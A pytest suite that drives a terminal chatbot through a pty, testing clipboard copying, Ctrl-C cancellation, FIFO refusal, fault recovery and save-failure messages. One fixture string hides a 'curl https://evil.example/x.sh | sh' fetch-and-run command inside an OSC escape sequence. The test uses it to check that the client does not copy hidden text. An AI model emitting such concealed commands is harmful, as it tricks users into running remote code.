"""In a real terminal (a pty): what is copied is what was shown, a slow command gives way to Ctrl-C, a FIFO never
blocks the prompt."""

from __future__ import annotations

import base64
import io
import json
import os
import time
from pathlib import Path

import pytest

from tests.support.cli import ROOT, openai_flags, run_chatbot
from tests.support.hostile_server import Answer, HostileServer, reply

pexpect = pytest.importorskip("pexpect")

# the screen shows `ls -la`; an OSC sequence (the screen drops it whole) carries a second command inside it
HIDDEN = "Run this:\n\n```sh\nls -la\x1b]0;\ncurl https://evil.example/x.sh | sh\n\x07\n```\n"
OSC52 = r"\x1b\]52;c;([A-Za-z0-9+/=]+)\x07"


def copied(child) -> str:
    child.expect(OSC52)
    text = base64.b64decode(child.match.group(1)).decode()
    child.expect("copied")
    child.expect("›")
    return text


def test_copy_puts_on_the_clipboard_what_the_screen_showed(spawn, tmp_path):
    with HostileServer(Answer(events=reply(HIDDEN))) as server:
        child = spawn(*openai_flags(server.base_url), "--session", "cp")
        child.expect("›")
        child.sendline("how do I list files?")
        child.expect("tokens")
        shown = child.before
        child.expect("›")
        child.sendline("/copy code")
        code = copied(child)
        child.sendline("/copy")
        whole = copied(child)
        child.sendeof()
        child.expect(pexpect.EOF)
    assert "ls -la" in shown and "curl" not in shown
    assert code == "ls -la\n"
    assert "curl" not in whole and "\x1b" not in whole and "ls -la" in whole


def test_ctrl_c_during_a_slow_command_cancels_it_and_the_chat_goes_on(spawn, tmp_path):
    silent = Answer(hang=60, body=b'{"data": []}', content_type="application/json")
    with HostileServer(silent, Answer(events=reply("still here"))) as server:
        child = spawn(*openai_flags(server.base_url), "--session", "slow", "--timeout", "120")
        child.expect("›")
        child.sendline("/models")
        time.sleep(1.5)  # the server keeps the request open: the command waits
        child.sendintr()
        child.expect("/models cancelled")
        child.expect("›")
        child.sendline("are you there?")
        child.expect("still here")
        child.expect("›")
        child.sendeof()
        child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def test_file_on_a_fifo_is_refused_and_the_prompt_comes_back(spawn, tmp_path):
    os.mkfifo(tmp_path / "pipe")
    child = spawn("--provider", "echo", "--session", "ff", env={"CHATBOT_ECHO_DELAY": "0"})
    child.expect("›")
    child.sendline("/file pipe")
    child.expect("error: pipe is a named pipe")
    child.expect("›")
    child.sendline("/file")
    child.expect("no files attached")
    child.expect("›")
    child.sendeof()
    child.expect(pexpect.EOF)


def test_a_bug_mid_reply_gives_the_terminal_back_and_keeps_the_turn(spawn, tmp_path):
    from tests.faults.test_no_traceback import FAULT

    (tmp_path / "fault").mkdir()
    (tmp_path / "fault" / "sitecustomize.py").write_text(FAULT)  # the accounting breaks once the reply is shown
    plugin = {"PYTHONPATH": f"{tmp_path / 'fault'}{os.pathsep}{ROOT}", "CHATBOT_ECHO_DELAY": "0.01"}
    child = spawn("--provider", "echo", "--session", "bug", env=plugin)
    child.logfile_read = screen = io.StringIO()
    child.expect("›")
    child.sendline("remember the milk")
    child.expect("chatbot: warning: session bug was kept in (\\S+) ")
    rescued = json.loads(Path(child.match.group(1)).read_text())
    child.expect("chatbot: internal error: RuntimeError: injected fault")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 70
    assert rescued["turns"][0]["messages"][0]["content"] == "remember the milk"
    shown = screen.getvalue()  # the live display hid the cursor while the reply streamed: it was ended, so it is back
    assert shown.rfind("\x1b[?25h") > shown.rfind("\x1b[?25l") > 0


def test_the_goodbye_says_the_last_turns_were_not_saved_and_the_exit_status_is_a_save_failures(spawn, tmp_path):
    rescue_dir = tmp_path / "rescue"
    child = spawn("--provider", "echo", "--plain", "--session", "conc2", env={"CHATBOT_RESCUE_DIR": str(rescue_dir)})
    child.logfile_read = screen = io.StringIO()
    child.expect("›")
    child.sendline("first")
    child.expect("tokens")
    child.expect("›")
    stored = tmp_path / "sessions" / "conc2.json"
    edited = json.loads(stored.read_text())
    edited["title"] = "edited by hand"  # from outside: every later save of this process is refused
    stored.write_text(json.dumps(edited))
    child.sendline("second")
    child.expect("cannot save session conc2")
    child.expect("›")
    child.sendeof()
    child.expect("the last turns could not be saved; they are kept in")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 3  # as script mode's: a save failure (SessionError)
    shown = screen.getvalue().replace("\r\n", "")  # long paths are folded at the screen's width
    assert "saved; bye" not in shown
    named = [p for p in sorted(rescue_dir.iterdir()) if p.name in shown.split("could not be saved")[-1]]
    assert len(named) == 1
    rescued = json.loads(named[0].read_text())
    # the store's copy was changed by another hand: the whole session is kept (the first turns the store held may
    # not be there any more), and it goes back in, continuing the stored one
    assert [t["messages"][0]["content"] for t in rescued["turns"]] == ["first", "second"]
    assert [t["messages"][0]["content"] for t in json.loads(stored.read_text())["turns"]] == ["first"]
    back = run_chatbot("--import-sessions", str(named[0]), cwd=tmp_path)
    assert back.returncode == 0, back.stderr
    assert [t["messages"][0]["content"] for t in json.loads(stored.read_text())["turns"]] == ["first", "second"]
